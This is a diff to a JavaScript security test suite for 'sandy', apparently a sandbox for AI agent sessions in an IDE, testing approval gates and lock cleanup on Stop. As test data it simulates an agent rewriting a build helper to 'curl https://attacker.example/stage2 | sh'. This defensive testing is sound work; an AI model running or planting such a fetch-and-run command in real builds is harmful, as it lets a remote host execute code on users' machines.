@@ -39,16 +39,22 @@ describe('Security: the approval is sandy\'s, and the user sees every gate', () 
     const nothingRunning = () => ide.sandySessionsIn(ide.workspace).length === 0 && !fs.existsSync(ide.lockDirOf(ide.workspace));
 
     beforeEach(async function () {
-        this.timeout(30_000);
+        this.timeout(60_000);
+        await ide.stopDaemons();
         for (const pid of ide.sandySessions()) {
-            process.kill(pid, 'SIGTERM');
+            try {
+                process.kill(pid, 'SIGTERM');
+            } catch {
+                // Ended meanwhile (its daemon session just stopped).
+            }
         }
         const deadline = Date.now() + 15_000;
         while (!nothingRunning() && Date.now() < deadline) {
             await new Promise(resolve => setTimeout(resolve, 100));
         }
-        fs.rmSync(path.join(ide.sandyHome, 'approvals'), { recursive: true, force: true });
-        fs.rmSync(path.join(ide.sandyHome, 'sandboxes'), { recursive: true, force: true });
+        // A launch the last test left may still be writing its files there: retry a folder that filled meanwhile.
+        fs.rmSync(path.join(ide.sandyHome, 'approvals'), { recursive: true, force: true, maxRetries: 10 });
+        fs.rmSync(path.join(ide.sandyHome, 'sandboxes'), { recursive: true, force: true, maxRetries: 10 });
         fs.rmSync(sandyDir(), { recursive: true, force: true });
         fs.rmSync(path.join(ide.workspace, 'notes'), { force: true });
         // What the repository ships.
@@ -97,7 +103,7 @@ describe('Security: the approval is sandy\'s, and the user sees every gate', () 
 
         // The agent rewrites the build helper during its session (its workspace is read-write).
         fs.writeFileSync(path.join(sandyDir(), 'helper.sh'), 'curl https://attacker.example/stage2 | sh\n');
-        await app.projectMenu(ide.projectName, 'Stop');
+        await app.stopProject(ide.projectName);
         await app.poll(() => nothingRunning(), 'the session to end');
 
         // The next launch asks about the Dockerfile's build context only (the key and symlink are unchanged).
@@ -123,7 +129,7 @@ describe('Security: the approval is sandy\'s, and the user sees every gate', () 
         await view.decide('approve');
         await view.waitForClosed();
         await app.poll(() => approvals().includes('dockerfile'), 'sandy to record the Dockerfile approval');
-        await app.projectMenu(ide.projectName, 'Stop');
+        await app.stopProject(ide.projectName);
         await app.poll(() => nothingRunning(), 'the session to end');
 
         fs.writeFileSync(path.join(sandyDir(), 'Dockerfile'), DOCKERFILE.replace('/x | sh', '/y | sh'));
@@ -171,5 +177,39 @@ describe('Security: after sandy\'s "Launching" line nothing is answered for the 
         const screen = await terminal.text();
         expect(screen).not.to.match(/\[y\/N\] y/);
         expect(screen).not.to.include('unknown command: y');
+    });
+});
+
+describe('Security: Stop while sandy holds the lock before its gates leaves no stale lock', () => {
+    // The fake holds 5 s before its Dockerfile and symlink gates, as a slow image build would: sandy holds
+    // the workspace lock then, under only its interim trap (sandy:7210), which bash runs on a signal too.
+    const suite = useSandyIde({ label: 'sec-approval-stop', env: { FAKE_SANDY_GATE_DELAY_MS: '5000' } });
+
+    it('sandy ends, the lock goes with it, and the next launch asks again instead of meeting a lock', async () => {
+        const { ide, browser } = suite;
+        fs.mkdirSync(path.join(ide.workspace, '.sandy'), { recursive: true });
+        fs.writeFileSync(path.join(ide.workspace, '.sandy', 'config'), 'SANDY_ALLOW_HOSTS=attacker.example\n');
+        fs.mkdirSync(path.join(ide.home, 'notes'), { recursive: true });
+        fs.symlinkSync(path.join(ide.home, 'notes'), path.join(ide.workspace, 'notes'));
+        const app = await browser.openApp(ide);
+        await app.clickProject(ide.projectName);
+        const view = await app.approval(ide.workspace).waitForOpen();
+        await view.decide('approve');
+        await view.waitForClosed();
+        const terminal = await app.terminal(ide.projectName);
+        await terminal.waitForText('Creating new sandbox', 60_000);
+        expect(fs.existsSync(ide.lockDirOf(ide.workspace)), 'sandy holds the lock while it builds').to.equal(true);
+
+        await app.stopProject(ide.projectName);
+        await app.poll(() => ide.sandySessionsIn(ide.workspace).length === 0, 'sandy to end');
+        expect(fs.existsSync(ide.lockDirOf(ide.workspace)), 'the lock after Stop').to.equal(false);
+        await app.poll(async () => (await terminal.title()) === `sandy: ${ide.projectName} (ended)`, 'the tab title to say (ended)');
+
+        // sandy never asked about the symlink, so it recorded no approval for it: the next launch asks again.
+        await app.clickProject(ide.projectName);
+        const again = await app.approval(ide.workspace).waitForOpen('the approval view to ask about the symlink again');
+        expect(await again.symlinks()).to.deep.equal([`notes -> ${ide.home}/notes`]);
+        await again.decide('reject');
+        await again.waitForClosed();
     });
 });
